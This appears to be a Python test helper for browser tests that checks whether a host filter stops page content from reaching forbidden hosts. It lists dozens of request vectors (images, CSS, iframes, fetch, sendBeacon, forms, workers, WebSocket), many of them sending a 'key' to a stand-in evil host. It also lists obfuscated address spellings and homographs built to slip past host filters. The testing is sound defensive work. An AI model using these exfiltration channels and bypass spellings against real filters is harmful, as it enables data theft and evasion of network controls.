"""The ways in which something in a browser may reach another host, each by a name of its own."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from playwright.sync_api import Error

from tests.browser.stand_ins import EVIL, SEEN, SHOP, SIX, THERE, Net

LOOKS_LIKE_IT = "\u0455hop.example"
"""A Cyrillic letter at its beginning."""
STATUSES = (301, 302, 303, 307, 308)

IN_A_PAGE: Mapping[str, str] = {
    "img": '<img src="URL">',
    "picture": '<picture><source srcset="URL"><img></picture>',
    "image button": '<input type=image src="URL">',
    "script": '<script src="URL"></script>',
    "module": '<script type=module src="URL"></script>',
    "stylesheet": '<link rel=stylesheet href="URL">',
    "css import": '<style>@import "URL";</style>',
    "css url": "<p style=\"background:url('URL')\">x</p>",
    "css content": "<p style=\"content:url('URL')\">x</p>",
    "css list": "<ul style=\"list-style-image:url('URL')\"><li>x</ul>",
    "css mask": "<p style=\"mask-image:url('URL')\">x</p>",
    "font": "<style>@font-face{font-family:'ID';src:url('URL')}</style>"
    "<p style=\"font-family:'ID'\">x</p>",
    "table background": '<table background="URL"><tr><td>x</table>',
    "iframe": '<iframe src="URL"></iframe>',
    "iframe srcdoc": "<iframe srcdoc='<img src=\"URL\">'></iframe>",
    "iframe data": "<iframe src=\"data:text/html,<img src='QUOTED'>\"></iframe>",
    "iframe javascript": "<iframe src=\"javascript:location='QUOTED'\"></iframe>",
    "meta refresh": "<iframe srcdoc='<meta http-equiv=refresh content=\"0;url=URL\">'></iframe>",
    "location": "<iframe srcdoc='<script>location=\"URL\"</script>'></iframe>",
    "location.replace": "<iframe srcdoc='<script>location.replace(\"URL\")</script>'></iframe>",
    "document.write": "<iframe srcdoc='<script>document.write(\"<img src=URL>\")</script>'>"
    "</iframe>",
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "video": '<video src="URL" preload=auto></video>',
    "audio": '<audio src="URL" preload=auto></audio>',
    "poster": '<video poster="URL"></video>',
    "prefetch": '<link rel=prefetch href="URL">',
    "preload": '<link rel=preload as=image href="URL">',
    "modulepreload": '<link rel=modulepreload href="URL">',
    "svg image": '<svg><image href="URL"/></svg>',
    "svg feImage": '<svg><filter id="ID"><feImage href="URL"/></filter>'
    '<rect filter="url(#ID)" width="9" height="9"/></svg>',
}
"""HTML that asks for URL as it is shown."""

BY_SCRIPT: Mapping[str, str] = {
    "fetch": 'fetch("URL", {mode: "no-cors"})',
    "fetch post": 'fetch("URL", {mode: "no-cors", method: "POST", body: "key"})',
    "fetch keepalive": 'fetch("URL", {mode: "no-cors", method: "POST", keepalive: true})',
    "preflight": 'fetch("URL", {headers: {"X-Key": "key"}})',
    "xhr": '{const x = new XMLHttpRequest(); x.open("POST", "URL"); x.send("key")}',
    "beacon": 'navigator.sendBeacon("URL", "key")',
    "event source": 'new EventSource("URL")',
    "image": 'new Image().src = "URL"',
    "import": 'import("URL")',
    "worker": "new Worker(blob(`importScripts('URL')`))",
    "worker fetch": "new Worker(blob(`fetch('URL', {mode: 'no-cors'})`))",
    "shared worker": "new SharedWorker(blob(`fetch('URL', {mode: 'no-cors'})`))",
    "blob page": 'frame(blob(`<img src="URL">`, "text/html"))',
    "service worker": 'navigator.serviceWorker.register("/sw.js?ID", {scope: "/ID"})'
    '.then(one => (one.installing || one.active).postMessage("URL"))',
    "window.open": 'window.open("URL")',
    "link to a new tab": 'link({href: "URL", target: "_blank"})',
    "link without opener": 'link({href: "URL", target: "_blank", rel: "noopener"})',
    "download": 'frame(blob(`<a id=a download href="URL">x</a><script>a.click()<\\/script>`, '
    '"text/html"))',
    "ping": 'link({href: "#", ping: "URL"})',
    "form get": 'form({action: "URL", method: "get"})',
    "form post": 'form({action: "URL", method: "post"})',
    "form multipart": 'form({action: "URL", method: "post", enctype: "multipart/form-data"})',
    "form to a new tab": 'form({action: "URL", method: "post", target: "_blank"})',
}
"""Script that asks for URL."""

WITHOUT_REDIRECT = {"websocket": 'new WebSocket("URL".replace("http", "ws"))'}

SCRIPT = """
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], {type}));
const made = (name, its) =>
    document.body.appendChild(Object.assign(document.createElement(name), its));
const link = its => made("a", its).click();
const frame = (src = "about:blank") => made("iframe", {src, name: "f" + Math.random()});
const form = its => {
    const its_own = made("form", {target: frame().name, ...its});
    its_own.appendChild(Object.assign(document.createElement("input"), {name: "key", value: "v"}));
    its_own.submit();
};
"""
SERVICE_WORKER = """
oninstall = () => skipWaiting();
onmessage = told => told.waitUntil(fetch(told.data, {mode: "no-cors"}).catch(() => 0));
"""

SPELT: Mapping[str, str] = {
    "address": f"http://{THERE}:PORT",
    "number": "http://2130706434:PORT",
    "hexadecimal": "http://0x7f.2:PORT",
    "octal": "http://0177.0.0.2:PORT",
    "short": "http://127.2:PORT",
    "address with a dot": f"http://{THERE}.:PORT",
    "IPv6": f"http://[{SIX}]:PORT",
    "IPv4 in IPv6": f"http://[::ffff:{THERE}]:PORT",
    "long IPv6": "http://[0:0:0:0:0:0:0:1]:PORT",
    "localhost": "http://localhost:PORT",
    "localhost with a dot": "http://LOCALHOST.:PORT",
    "capitals": f"http://{EVIL.upper()}:PORT",
    "dot of the root": f"http://{EVIL}.:PORT",
    "ideographic dot": "http://evil\u3002example:PORT",
    "wide letters": "http://\uff45vil.example:PORT",
    "quoted dot": f"http://{EVIL.replace('.', '%2e')}:PORT",
    "user": f"http://{SHOP}@{EVIL}:PORT",
    "user and password": f"http://{SHOP}:1@{EVIL}:PORT",
    "backslash": f"http:\\\\{EVIL}:PORT",
    "backslash before a user": f"http://{EVIL}:PORT\\@{SHOP}",
    "tab": "http://ev\til.example:PORT",
    "line break": "http://ev\nil.example:PORT",
    "no scheme": f"//{EVIL}:PORT",
    "three slashes": f"http:///{EVIL}:PORT",
    "below": f"http://{SHOP}.{EVIL}:PORT",
    "homograph": f"http://{LOOKS_LIKE_IT}:PORT",
    "punycode": "http://xn--hop-6wd.example:PORT",
}
"""A forbidden host in many spellings; the last ones are hosts that look like the shop."""

FORBIDDEN = (
    THERE,
    SIX,
    f"::ffff:{THERE}",
    "localhost",
    EVIL,
    f"*.{EVIL}",
    LOOKS_LIKE_IT,
    "xn--hop-6wd.example",
)
"""All of them, to be allowed where it is shown that every vector arrives."""


def seen(net: Net, vector: str, base: str = f"http://{EVIL}:PORT") -> str:
    """The address at a forbidden host that tells that a vector has arrived."""
    return base.replace("PORT", str(net.port)) + SEEN + quote(vector)


def hop(net: Net, vector: str, url: str, status: int = 302) -> str:
    """An address of the shop that redirects."""
    return f"{net.shop}/to/{status}/{quote(vector)}/{quote(url, safe='')}"


@dataclass
class Page:
    """A page of everything that a page may do; the vectors in it, straight ones and redirected."""

    net: Net
    direct: set[str] = field(default_factory=set)
    redirected: set[str] = field(default_factory=set)
    html: list[str] = field(default_factory=list)
    scripts: list[str] = field(default_factory=list)

    @property
    def text(self) -> str:
        """The page itself; what one vector does wrong does not stop the next."""
        tried = "".join(f"try {{ {each} }} catch (e) {{ }}\n" for each in self.scripts)
        return f"<!doctype html><body>{''.join(self.html)}<script>{SCRIPT}{tried}</script>"

    def add(self, name: str, text: str, base: str = f"http://{EVIL}:PORT") -> None:
        """Ask for a forbidden address."""
        self.direct.add(name)
        self._write(name, text, seen(self.net, name, base))

    def add_redirected(
        self, name: str, text: str, base: str = f"http://{EVIL}:PORT", status: int = 302
    ) -> None:
        """Ask for an address of the shop that redirects."""
        vector = f"{name}, redirected by {status}"
        self.redirected.add(vector)
        self._write(vector, text, hop(self.net, vector, seen(self.net, vector, base), status))

    def _write(self, vector: str, text: str, url: str) -> None:
        filled = text.replace("QUOTED", quote(url)).replace("ESCAPED", json.dumps(url)[1:-1])
        filled = filled.replace("URL", url).replace("ID", quote(vector).replace("%", "-"))
        (self.html if text.startswith("<") else self.scripts).append(filled)


def page(net: Net) -> Page:
    """Every vector of a page."""
    all_of_it = Page(net)
    for name, text in {**IN_A_PAGE, **BY_SCRIPT}.items():
        all_of_it.add(name, text)
        all_of_it.add_redirected(name, text)
    for name, text in WITHOUT_REDIRECT.items():
        all_of_it.add(name, text)
    for name, base in SPELT.items():
        # Browsers ask for no picture by an address with a user in it.
        text = 'window.open("ESCAPED")' if "user" in name else '<img src="URL">'
        all_of_it.add(name, text, base)
        if name != "line break":  # which no header can hold
            all_of_it.add_redirected(name, text, base)
    for status in STATUSES:
        all_of_it.add_redirected("form", 'form({action: "URL", method: "post"})', status=status)
        all_of_it.add_redirected("script", '<script src="URL"></script>', status=status)
    return all_of_it


def asked_by(ask: Callable[..., Any], name: str, net: Net) -> tuple[set[str], set[str]]:
    """What page objects ask for by themselves: the direct vectors, and the redirected ones."""
    urls = {name: seen(net, name)}
    for status in STATUSES:
        vector = f"{name}, redirected by {status}"
        urls[vector] = hop(net, vector, seen(net, vector), status)
    for spelling in ("address", "IPv6", "user", "localhost", "number"):
        vector = f"{name}, {spelling}, redirected"
        urls[vector] = hop(net, vector, seen(net, vector, SPELT[spelling]))
    vector = f"{name}, redirected three times"
    urls[vector] = hop(net, vector, hop(net, vector, hop(net, vector, seen(net, vector), 307), 301))
    for url in urls.values():
        with suppress(Error):
            ask(url)
    return {name}, set(urls) - {name}
